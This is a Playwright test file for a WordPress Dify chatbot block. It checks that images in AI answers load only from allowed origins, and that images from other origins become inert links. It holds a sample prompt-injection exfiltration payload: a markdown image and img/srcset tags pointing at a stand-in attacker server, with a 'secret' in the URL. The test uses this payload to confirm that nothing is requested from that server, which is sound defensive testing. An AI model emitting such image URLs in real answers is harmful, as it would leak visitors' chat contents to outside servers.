/**
 * Answers cannot make the visitor's browser call a third party: an image in an answer loads only
 * from an allowed origin (the Dify API's, the site's own, the `dify_chatbot_image_origins`
 * filter's); any other is shown as a link and requested by nothing — with both sanitizers.
 */
import type { Locator, Page } from '@playwright/test';

import { test, expect } from '../utils/test';
import { EMULATOR_URL } from '../utils/emulator';

test.use( { storageState: { cookies: [], origins: [] } } );

// The emulator under another name: another origin, standing for an attacker's server.
const STRANGER = EMULATOR_URL.replace( '127.0.0.1', 'localhost' );

async function ask( page: Page, question: string ) {
	const input = page.getByRole( 'textbox', { name: 'Message' } );
	await input.fill( question );
	await input.press( 'Enter' );
}

function answer( page: Page ): Locator {
	return page.locator( '.dify-chatbot__message.is-assistant' ).first();
}

for ( const sanitizer of [ 'the browser’s Sanitizer API', 'DOMPurify' ] ) {
	test( `an image on another origin is a link and is never requested, with ${ sanitizer }`, async ( {
		page,
		baseURL,
	} ) => {
		if ( sanitizer === 'DOMPurify' ) {
			// A browser without the HTML Sanitizer API (Safari today): the chat uses DOMPurify.
			await page.addInitScript( () => {
				delete ( window as unknown as Record< string, unknown > )
					.Sanitizer;
				delete ( Document as unknown as Record< string, unknown > )
					.parseHTML;
				delete (
					Element.prototype as unknown as Record< string, unknown >
				 ).setHTML;
			} );
		}
		const requested: string[] = [];
		page.on( 'request', ( request ) => requested.push( request.url() ) );
		await page.goto( '/dify-chatbot-block/' );
		const site = new URL( baseURL ?? '' ).origin;
		const own = `${ site }/wp-includes/images/w-logo-blue.png`;
		// What a prompt injection makes a model write: the chat's text in an image's address.
		const leak = `${ STRANGER }/leak.png?q=the-visitors-secret`;
		await ask(
			page,
			`![leak](${ leak }) and <img src="${ STRANGER }/raw.png" srcset="${ STRANGER }/set.png 2x" alt="raw"> and ![logo](${ own }) #echo #delay:1`
		);
		await expect( answer( page ) ).toHaveAttribute( 'data-status', 'done', {
			timeout: 30_000,
		} );

		// The site's own image loads.
		const image = answer( page ).locator( 'img' );
		await expect( image ).toHaveCount( 1 );
		await expect( image ).toHaveAttribute( 'src', own );
		await expect
			.poll( () =>
				image.evaluate(
					( element ) => ( element as HTMLImageElement ).naturalWidth
				)
			)
			.toBeGreaterThan( 0 );

		// The others are links the visitor may follow, nothing more.
		const link = answer( page ).getByRole( 'link', {
			name: 'Image: leak',
		} );
		await expect( link ).toHaveAttribute( 'href', leak );
		await expect( link ).toHaveAttribute(
			'rel',
			'nofollow noopener noreferrer'
		);
		await expect(
			answer( page ).getByRole( 'link', { name: 'Image: raw' } )
		).toBeVisible();
		expect( requested ).toContain( own );
		expect(
			requested.filter( ( url ) => url.startsWith( STRANGER ) )
		).toEqual( [] );
	} );
}
